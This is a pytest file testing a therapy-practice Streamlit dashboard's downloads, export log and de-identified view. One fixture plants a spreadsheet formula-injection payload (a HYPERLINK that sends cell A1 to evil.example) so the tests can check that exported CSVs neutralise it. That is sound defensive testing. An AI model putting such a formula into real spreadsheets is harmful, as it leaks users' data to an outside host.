"""Downloads and the de-identified view, run headless with AppTest on the fixture practice of conftest.py (with one
client note holding a spreadsheet formula).

What each download offers is caught where Streamlit stores it (MediaFileManager): the function a button runs when
pressed (a table's, or a Data page export), called here as the browser's click would.
"""

from __future__ import annotations

import hashlib
import io
import json
import tomllib
import zipfile
from pathlib import Path

import pytest
from streamlit.testing.v1 import AppTest

import signin
from analytics.export import deidentify
from analytics.store.database import open_store
from tests.pages.test_pages import DASHBOARD, ROBIN, markdown_bodies, metrics, no_exception, table, texts

PROJECT_DIR = Path(__file__).resolve().parents[2]
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
TYPED = ["Client One", "Client Two", "Client Three", "Ada Byron", ROBIN, "Thought record", "Morning walk", FORMULA,
         "Keep going, Client One"]


@pytest.fixture
def noted_store(store_path: Path) -> Path:
    con = open_store(store_path)
    con.execute("update submissions set client_note = ?, therapist_feedback = 'Keep going, Client One' "
                "where submission_id = 'S1'", [FORMULA])
    con.close()
    return store_path


@pytest.fixture
def app(noted_store: Path, offered: dict[str, object]) -> AppTest:
    return no_exception(AppTest.from_file(str(DASHBOARD), default_timeout=30).run())


def on_page(at: AppTest, page: str) -> AppTest:
    return no_exception(at.switch_page(f"pages/{page}.py").run())


def deidentified(at: AppTest) -> AppTest:
    return no_exception(at.toggle(key="deidentified_view").set_value(True).run())


def on_client(at: AppTest, client_id: str = "C1") -> AppTest:
    on_page(at, "client")
    return no_exception(at.selectbox(key="client_picker").set_value(client_id).run())


def log_rows(store: Path) -> list[dict]:
    """The export log, read on a connection of our own (the page's writes must be there, committed)."""
    con = open_store(store)
    try:
        frame = con.execute("select * from export_log order by exported_at").df()
    finally:
        con.close()
    return frame.to_dict("records")


def everything_shown(at: AppTest) -> str:
    parts = [*texts(at), *markdown_bodies(at), *(m.value for m in at.metric), *(m.label for m in at.metric)]
    parts += [element.value.to_csv() for element in at.dataframe]
    parts += [str(option) for box in at.selectbox for option in box.options]
    parts += [chart.proto.spec for chart in at.get("plotly_chart")]  # hover texts and axis labels too
    return "\n".join(str(p) for p in parts)


def unzip(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


# --- The toolbar's download is off; tables with typed text have their own --------------------------------------


def test_the_toolbar_download_is_turned_off_for_every_table() -> None:
    config = tomllib.loads((PROJECT_DIR / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["client"]["disableDataExport"] is True


def test_the_client_pages_tables_download_formula_safe_csv_and_each_download_is_logged(
        app: AppTest, offered: dict[str, object], noted_store: Path) -> None:
    on_client(app)
    keys = [button.key for button in app.download_button]
    assert keys == ["client_current_download", "client_overdue_download", "client_submissions_download"]
    assert log_rows(noted_store) == []  # offering is not exporting: the file is made when pressed
    data = offered["submissions-C1.csv"]()  # what the browser's click runs (in its own thread)
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    assert '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"' in text  # an apostrophe, quotes doubled
    assert "Thought record" in text  # the identified view: as typed
    (row,) = log_rows(noted_store)
    assert (row["tier"], row["format"], row["what"], row["exported_by"]) == (
        "identified", "csv", "submissions of one client", signin.LOCAL_USER)  # local mode: the machine's admin
    (file,) = json.loads(row["files"])
    # C1's submissions in the last 28 days: S1 (d-11), S2 (d-6), S3 (d-3), S8 (d-1)
    assert file == {"file": "submissions-C1.csv", "rows": 4, "bytes": len(data), "sha256": hashlib.sha256(data).hexdigest()}
    assert json.loads(row["rows"]) == {"submissions of one client": 4}


def test_the_caseload_and_planner_tables_with_names_have_their_own_download(app: AppTest) -> None:
    on_page(app, "caseload")
    assert {button.key for button in app.download_button} == {"attention_download", "caseload_download"}
    on_client(app)
    on_page(app, "planner")
    assert "planner_current_download" in {button.key for button in app.download_button}


# --- The Data page's exports -------------------------------------------------------------------------------------


def test_the_data_page_offers_each_tier_and_the_backup_each_made_when_pressed_and_logged(
        app: AppTest, offered: dict[str, object], noted_store: Path) -> None:
    on_page(app, "data")
    labels = [button.label for button in app.download_button]
    assert labels == ["Identified CSV (.zip)", "Identified Excel", "Backup (Parquet, .zip)",
                      "De-identified CSV (.zip)", "De-identified Excel", "Summary tables only (CSV, .zip)"]
    names = {name for name in offered if name and name.endswith((".zip", ".xlsx"))}
    assert len(names) == 6
    assert log_rows(noted_store) == []  # nothing is made until pressed
    identified = next(name for name in names if name.startswith("identified-") and name.endswith("-csv.zip"))
    files = unzip(offered[identified]())
    assert sorted(files) == ["assignments.csv", "clients.csv", "measures.csv", "submissions.csv", "therapists.csv"]
    assert "\"'=HYPERLINK(" in files["submissions.csv"].decode("utf-8-sig")
    deidentified_csv = next(name for name in names if name.startswith("deidentified-2") and name.endswith("csv.zip"))
    files = unzip(offered[deidentified_csv]())
    assert sorted(files) == ["assignments.csv", "by_therapist.csv", "by_type.csv", "by_week.csv", "clients.csv",
                             "measures.csv", "submissions.csv"]
    everything = b"".join(files.values()).decode("utf-8")
    for typed in [*TYPED, "C1", "T1", "A1", "S1"]:
        assert typed not in everything, typed
    backup = next(name for name in names if name.startswith("backup-"))
    assert "manifest.json" in unzip(offered[backup]())
    assert [(r["tier"], r["format"], r["what"]) for r in log_rows(noted_store)] == [
        ("identified", "csv", "Data page"), ("deidentified", "csv", "Data page"), ("identified", "parquet", "Data page")]


def test_a_therapists_view_exports_only_their_caseload_and_offers_no_backup(
        app: AppTest, offered: dict[str, object]) -> None:
    no_exception(app.selectbox(key="view_as").set_value("T1").run())
    on_page(app, "data")
    assert "Backup (Parquet, .zip)" not in [button.label for button in app.download_button]
    name = next(n for n in offered if n and n.startswith("identified-") and n.endswith("-csv.zip"))
    files = unzip(offered[name]())
    clients = files["clients.csv"].decode("utf-8-sig")
    assert "Client One" in clients and "Client Three" not in clients and "C3" not in clients
    assert ROBIN not in files["therapists.csv"].decode("utf-8-sig")


def test_the_practice_sets_k_on_the_data_page(app: AppTest, noted_store: Path) -> None:
    on_page(app, "data")
    app.number_input(key="suppression_k").set_value(5)
    no_exception(app.button(key="suppression_k_save").click().run())
    assert [s.value for s in app.success] == ["Saved: counts from 1 to 5 are suppressed."]
    assert app.number_input(key="suppression_k").value == 5
    assert deidentify.suppression_k(open_store(noted_store)) == 5
    assert any("counts from 1 to 5 suppressed" in body for body in markdown_bodies(app))


# --- The de-identified view -----------------------------------------------------------------------------------


def test_the_deidentified_view_shows_pseudonyms_no_typed_text_and_hides_small_counts(app: AppTest,
                                                                                    noted_store: Path) -> None:
    deidentified(app)
    # Overview (fixture, last 28 days): active clients 3, assignments due 4 (+2), 7-day submissions 5: all 1 to 10
    assert metrics(app) == {
        "Active clients": ("<11", ""),
        "Assignments due": ("<11", ""),
        "Completion rate": ("—", ""),
        "On-time rate": ("—", ""),
        "7-day submissions": ("<11", ""),
    }
    secret = deidentify.practice_secret(open_store(noted_store))
    for page in ("overview", "caseload", "client", "effectiveness", "data"):
        on_page(app, page)
        if page == "client":
            on_client(app, "C1")
        shown = everything_shown(app)
        for typed in [*TYPED, '"C1"', '"T1"', '"T2"']:  # names, typed text, and ids as values in a chart
            assert typed not in shown, (page, typed)
    secret = deidentify.practice_secret(open_store(noted_store))
    on_client(app, "C1")  # the picker's values stay on the server; it shows the pseudonym
    assert deidentify.pseudonym(secret, "client", "C1") in texts(app)
    assert deidentify.pseudonym(secret, "therapist", "T1") in texts(app)
    submissions = table(app, "submitted_at", "completion")
    assert not {"title", "client_note", "therapist_feedback"} & set(submissions.columns)
    assert not app.text_area  # no feedback is written here
    assert "fewer than 11" in table(app, "type", "due")["due"].tolist()


def test_downloads_in_the_deidentified_view_are_deidentified_and_logged_so(
        app: AppTest, offered: dict[str, object], noted_store: Path) -> None:
    deidentified(app)
    secret = deidentify.practice_secret(open_store(noted_store))
    on_client(app, "C1")  # the picker's values stay on the server; it shows the pseudonym
    name = f"submissions-{deidentify.pseudonym(secret, 'client', 'C1')}.csv"
    assert log_rows(noted_store) == []
    data = offered[name]().decode("utf-8-sig")
    for typed in TYPED:
        assert typed not in data
    assert [r["tier"] for r in log_rows(noted_store)] == ["deidentified"]
    on_page(app, "data")
    assert [button.label for button in app.download_button] == [
        "De-identified CSV (.zip)", "De-identified Excel", "Summary tables only (CSV, .zip)"]
    assert not [t for t in app.get("file_uploader")]  # no importing in this view
    assert not [e for e in app.dataframe if "imported_by" in e.value.columns]


def test_the_planner_is_not_part_of_the_deidentified_view(app: AppTest) -> None:
    deidentified(app)
    on_page(app, "planner")
    assert [i.value for i in app.info][0].startswith("The planner works with what people wrote")
    assert not app.data_editor and not app.download_button


def test_the_switch_is_kept_across_pages_and_can_be_turned_off(app: AppTest) -> None:
    deidentified(app)
    on_page(app, "caseload")
    assert metrics(app)["Active clients"] == ("<11", "")
    no_exception(app.toggle(key="deidentified_view").set_value(False).run())
    assert metrics(app)["Active clients"] == ("3", "")
